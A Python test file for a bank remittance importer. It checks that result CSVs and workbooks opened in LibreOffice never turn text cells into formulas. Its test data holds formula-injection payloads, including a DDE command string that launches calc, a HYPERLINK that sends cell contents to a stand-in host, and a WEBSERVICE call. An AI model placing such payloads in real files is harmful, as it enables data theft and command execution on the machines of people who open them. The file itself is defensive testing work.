"""No text of a bank, a customer list or a clerk is ever run by a spreadsheet.

Every payload stands in every text column of a result CSV and of its workbook; both
are opened by LibreOffice as unwisely as it can: formulas evaluated, blanks in front
removed, split at the wrong mark.
"""

import re
import sys
from dataclasses import replace
from datetime import UTC, date, datetime
from decimal import Decimal
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

sys.path.insert(0, str(Path(__file__).parent))

from office import COMMA, SEMICOLON, TAB, Habits, needs_office, saved_as

from importer import results, workbook
from importer.cells import PLAIN_NUMBER, decode_cell, encode_cell
from importer.journal.entry import (
    Done,
    Entry,
    FileRecord,
    Head,
    Held,
    Part,
    Plan,
)
from importer.model import (
    Application,
    Customer,
    Evidence,
    Hold,
    Payment,
    Place,
    Posted,
    Reason,
    Remittance,
    Share,
)
from importer.resolve.snapshot import Books
from importer.results import COLUMNS, row_of, without_head
from importer.review.sheet import read

AT = datetime(2026, 3, 17, 9, 0, tzinfo=UTC)
HEAD = Head(7, "0f" * 32)
SIGNS = ("=", "+", "-", "@", "\uff1d", "\uff0b", "\uff0d", "\uff20")
BEFORE = (
    *("", " ", "   ", "\t", "\r", "\n", "\r\n", "'", '"', "'\t"),
    *("\u00a0", "\u2007", "\u3000", "\u200b", "\ufeff", "\u2060", "\u00ad", "\x0b"),
    *("x;", "x; ", "x\t", "x\n", "x\r\n", 'x";"', "x,", "x;'", ";", "x;;", "x\t;"),
)
CALLS = (
    "1+1",
    'HYPERLINK("http://x.example/?"&A1,"pay here")',
    "cmd|'/C calc'!A0",
    'DDE("soffice";"x";"y")',
    "SUM(1;2)",
    'WEBSERVICE("http://x.example/")',
    "A1",
)
PAYLOADS = tuple(
    f"{before}{sign}{CALLS[number % len(CALLS)]}"
    for number, (sign, before) in enumerate(
        (sign, before) for sign in SIGNS for before in BEFORE
    )
)
FORMULA = re.compile(r'table:formula="([^"]*)"')


def entry(row: int, text: str) -> Entry:
    """Return a remittance whose every text is the same; half of them are posted."""
    notice = Remittance(
        place=Place(text, row),
        account=text,
        currency="USD",
        amount=Decimal("100.00"),
        value_date=date(2026, 3, 16),
        booking_date=date(2026, 3, 16),
        remitter=text,
        text=text,
        reference=text,
        identity=(),
    )
    evidence = Evidence(text, (text,))
    applied = (Application(text, Decimal("100.00")),)
    hold = Held(Hold(Reason.SHORT, text, evidence, (Share(text, applied),)))
    payment = Payment(
        marker=text,
        customer=text,
        customer_name=text,
        currency="USD",
        value_date=date(2026, 3, 16),
        kind=text,
        reference=text,
        notes=text,
        applications=applied,
        unapplied=Decimal(0),
    )
    done = Done(Plan((Part(payment, outcome=Posted(text)),), evidence), ())
    record = FileRecord("a" * 64, text, AT, text, "d", text, text, 1)
    one = Entry(f"BK{row}", record, notice, hold, 1, AT, note=text, alarms=(text,))
    return replace(one, state=done) if row % 2 else one


ENTRIES = tuple(
    entry(2 * number + which, text)
    for number, text in enumerate(PAYLOADS)
    for which in (0, 1)
)
BOOKS = Books([Customer(text, "", text) for text in PAYLOADS], [])


def formulas(path: Path, folder: Path, delimiter: int = COMMA) -> list[str]:
    """Return the formulas that LibreOffice finds in a file."""
    made = saved_as(path, "fods", folder, by=Habits("en-US", delimiter, is_run=True))
    text = made.read_text(encoding="utf-8")
    assert text.count("<table:table-cell") > len(ENTRIES)
    return FORMULA.findall(text)


def test_there_are_enough_of_them() -> None:
    assert len(set(PAYLOADS)) == len(PAYLOADS) > 200


@needs_office
@pytest.mark.parametrize("delimiter", [COMMA, SEMICOLON, TAB])
def test_no_cell_of_a_result_is_a_formula(tmp_path: Path, delimiter: int) -> None:
    path = results.write(results.rows(ENTRIES), tmp_path, "bank.csv", AT, HEAD)
    assert formulas(path, tmp_path / "office", delimiter) == []


@needs_office
def test_no_cell_of_a_workbook_is_a_formula(tmp_path: Path) -> None:
    path = workbook.write(ENTRIES, tmp_path / "bank.csv", BOOKS, AT, HEAD)
    assert formulas(path, tmp_path / "office") == []


@needs_office
def test_libreoffice_would_have_run_them(tmp_path: Path) -> None:
    """What is asked above is a question that can be answered otherwise."""
    path = tmp_path / "bare.csv"
    lines = [f'"{text}"' for text in ("=1+1", "x", '=HYPERLINK(""http://x"")')]
    path.write_text("\n".join(lines * len(ENTRIES)), encoding="utf-8")
    assert formulas(path, tmp_path / "office")


def test_every_cell_comes_back_as_it_was(tmp_path: Path) -> None:
    path = results.write(results.rows(ENTRIES), tmp_path, "bank.csv", AT, HEAD)
    made = workbook.write(ENTRIES, path, BOOKS, AT, HEAD)
    for one in (path, made):
        rows = {row["remittance"]: row.cells for row in read(one)}
        for known in ENTRIES:
            said, was = rows[known.id], row_of(known)
            said["evidence"] = without_head(said["evidence"])
            for name in set(COLUMNS) - {"amount", "value_date", "unapplied"}:
                assert said[name] == was[name], (one.suffix, name)


@given(
    st.text(st.sampled_from("=+-@'\t\r\n; ,x\u200b\uff1d\"1"), max_size=12) | st.text()
)
def test_a_text_comes_back_exactly_and_is_harmless_at_every_mark(text: str) -> None:
    cell = encode_cell(text)
    assert decode_cell(cell) == text
    for piece in re.split("[;\t\r\n]", cell):
        if not PLAIN_NUMBER.fullmatch(piece.lstrip(" ")):
            assert not piece.lstrip(' "\u200b').startswith(SIGNS)
